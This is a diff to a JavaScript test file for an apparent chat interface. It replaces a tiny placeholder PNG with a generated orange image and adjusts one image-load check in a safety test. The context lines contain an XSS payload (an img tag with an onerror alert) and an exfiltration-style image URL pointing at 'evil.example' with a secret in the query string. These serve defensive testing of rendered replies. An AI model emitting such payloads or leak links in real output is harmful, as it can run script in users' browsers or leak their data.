@@ -4,11 +4,43 @@ import { describe, it, before, after, afterEach } from "node:test";
 import assert from "node:assert/strict";
 import { useEnv, configure, send, lastReply, waitSettled, shot, partText, assertNoPageErrors } from "./harness.mjs";
 
-// 1×1 transparent PNG.
-const PNG = Buffer.from(
-  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=",
-  "base64",
-);
+import { deflateSync } from "node:zlib";
+
+/** A small solid orange PNG (visible in screenshots once loaded). */
+function solidPng(w, h) {
+  const crcTable = Array.from({ length: 256 }, (_, n) => {
+    let c = n;
+    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
+    return c >>> 0;
+  });
+  const crc = (buf) => {
+    let c = 0xffffffff;
+    for (const b of buf) c = crcTable[(c ^ b) & 0xff] ^ (c >>> 8);
+    return (c ^ 0xffffffff) >>> 0;
+  };
+  const chunk = (type, data) => {
+    const len = Buffer.alloc(4);
+    len.writeUInt32BE(data.length);
+    const td = Buffer.concat([Buffer.from(type), data]);
+    const c = Buffer.alloc(4);
+    c.writeUInt32BE(crc(td));
+    return Buffer.concat([len, td, c]);
+  };
+  const ihdr = Buffer.alloc(13);
+  ihdr.writeUInt32BE(w, 0);
+  ihdr.writeUInt32BE(h, 4);
+  ihdr[8] = 8; // bit depth
+  ihdr[9] = 2; // RGB
+  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(w * 3, Buffer.from([0xf0, 0x80, 0x20]))]);
+  const raw = Buffer.concat(Array.from({ length: h }, () => row));
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    chunk("IHDR", ihdr),
+    chunk("IDAT", deflateSync(raw)),
+    chunk("IEND", Buffer.alloc(0)),
+  ]);
+}
+const PNG = solidPng(48, 32);
 
 const XSS_THINKING = "Thinking with <b>markup</b> and <img src=x onerror=alert('think')> inside.";
 
@@ -98,7 +130,8 @@ describe("safety", () => {
     const img = reply.locator('[data-part="answer"] img');
     await img.waitFor();
     assert.equal(await img.getAttribute("src"), "https://evil.example/leak.png?q=secret");
-    assert.equal(await img.evaluate((i) => i.complete && i.naturalWidth), 1, "the image loaded");
+    await page.waitForFunction(() => document.querySelector('[data-part="answer"] img')?.complete);
+    assert.equal(await img.evaluate((i) => i.naturalWidth), 48, "the image loaded");
     const after = await page.evaluate(documentFacts);
     assert.deepEqual(after.onAttrs, []);
     assert.equal(after.pwned, false);
